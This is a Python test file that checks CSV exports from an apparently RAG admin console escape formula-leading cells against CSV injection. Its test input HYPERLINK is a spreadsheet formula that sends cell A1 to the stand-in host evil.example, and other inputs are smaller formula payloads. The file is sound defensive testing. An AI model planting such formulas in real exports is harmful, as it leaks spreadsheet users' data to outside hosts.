"""Every CSV download neutralises cells a spreadsheet would run as formulas (OWASP's CSV injection rule).

Text cells starting with `=`, `+`, `-`, `@`, a tab or a carriage return (after any leading
whitespace) get a leading `'`; numbers stay numbers. Checked on the function every download uses,
on the bytes the Unanswered and Audit pages offer, and on the code: no page writes CSV itself.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator

import pandas as pd
import pytest
import sqlalchemy as sa
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

from db.models import AuditEntry
from rag.console import Console
from rag.text import csv_bytes
from tests.test_escaping import add_question, console, open_page
from tests.test_pages import REPO

__all__ = ["console"]  # the pages' console fixture, shared with tests/test_escaping.py

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'


def rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_formula_cells_and_names_get_a_quote_numbers_stay_numbers() -> None:
    frame = pd.DataFrame(
        {
            "=SUM(A1:A9)": ["x", "y", "z", "w", "v", "u", "t"],
            "Question": [HYPERLINK, "+1 555", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "  =1+1"],
            "Plain": ["a-b", "1+1", "e@x.com", "", None, "'=already", "ok"],
            "Number": [-1, -2.5, 3, 0, 1, 2, 3],
            "Mixed": [-4, "-4", 5.5, True, None, "＝1", "fine"],
        }
    )
    [header, *body] = rows(csv_bytes(frame))
    assert header == ["'=SUM(A1:A9)", "Question", "Plain", "Number", "Mixed"]
    assert [r[1] for r in body] == ["'" + q for q in frame["Question"]]
    assert [r[2] for r in body] == ["a-b", "1+1", "e@x.com", "", "", "'=already", "ok"]
    assert [r[3] for r in body] == ["-1.0", "-2.5", "3.0", "0.0", "1.0", "2.0", "3.0"]
    assert [r[4] for r in body] == ["-4", "'-4", "5.5", "True", "", "'＝1", "fine"]


def test_a_frame_without_formulas_is_written_as_pandas_writes_it() -> None:
    frame = pd.DataFrame(
        {
            "Day": pd.to_datetime(["2025-03-01", "2025-03-02"], utc=True),
            "Cost ($)": [-0.5, 1.25],
            "Who": ["a", "b"],
        }
    )
    assert csv_bytes(frame) == frame.to_csv(index=False, lineterminator="\r\n").encode("utf-8")


def test_a_carriage_return_inside_a_cell_cannot_start_a_row_of_its_own() -> None:
    """Unquoted, `a\r=1` is two rows to a spreadsheet, the second a formula."""
    data = csv_bytes(pd.DataFrame({"Question": ["a\r=HYPERLINK(1)", "b\n=HYPERLINK(2)"]}))
    assert rows(data) == [["Question"], ["a\r=HYPERLINK(1)"], ["b\n=HYPERLINK(2)"]]
    assert data.count(b"\r\n") == 3


@pytest.fixture
def downloads(monkeypatch: pytest.MonkeyPatch) -> Iterator[dict[str, bytes]]:
    """The bytes behind each download button a page drew, by file name."""
    seen: dict[str, bytes] = {}
    load = MemoryMediaFileStorage.load_and_get_id

    def recording(
        self: MemoryMediaFileStorage,
        data: str | bytes,
        mimetype: str,
        kind: object,
        filename: str | None = None,
    ) -> str:
        if filename and isinstance(data, bytes):
            seen[filename] = data
        return load(self, data, mimetype, kind, filename)  # type: ignore[arg-type]

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", recording)
    yield seen


def test_the_unanswered_download_neutralises_a_formula_question(
    console: Console, downloads: dict[str, bytes]
) -> None:
    add_question(console, HYPERLINK)
    open_page("pages/analytics_unanswered.py")
    [header, *body] = rows(downloads["unanswered-questions.csv"])
    assert [r[header.index("Question")] for r in body] == ["'" + HYPERLINK]


def test_the_audit_download_neutralises_a_formula_target(
    console: Console, downloads: dict[str, bytes]
) -> None:
    with console.engine.begin() as conn:
        conn.execute(
            sa.insert(AuditEntry).values(
                actor="-1+1", action="document_deleted", target=HYPERLINK, detail={"title": "@evil"}
            )
        )
    open_page("pages/audit.py")
    [header, *body] = rows(downloads["audit-log.csv"])
    [entry] = body
    assert entry[header.index("On")] == "'" + HYPERLINK
    assert entry[header.index("Who")] == "'-1+1"
    assert entry[header.index("Details")] == "title: @evil"  # not at the start: left as it is


def test_no_page_writes_csv_or_a_download_button_itself() -> None:
    """Every download goes through ui/downloads.py, which passes the frame to csv_bytes."""
    sources = [REPO / "app.py", *sorted((REPO / "pages").glob("*.py")), *sorted((REPO / "ui").glob("*.py"))]
    offenders = [
        f"{path.relative_to(REPO)}: {line.strip()}"
        for path in sources
        if path.name != "downloads.py"
        for line in path.read_text(encoding="utf-8").splitlines()
        if re.search(r"\bto_csv\(|download_button\(", line)
    ]
    assert offenders == []
    helper = (REPO / "ui" / "downloads.py").read_text(encoding="utf-8")
    assert "csv_bytes(frame)" in helper and "to_csv" not in helper
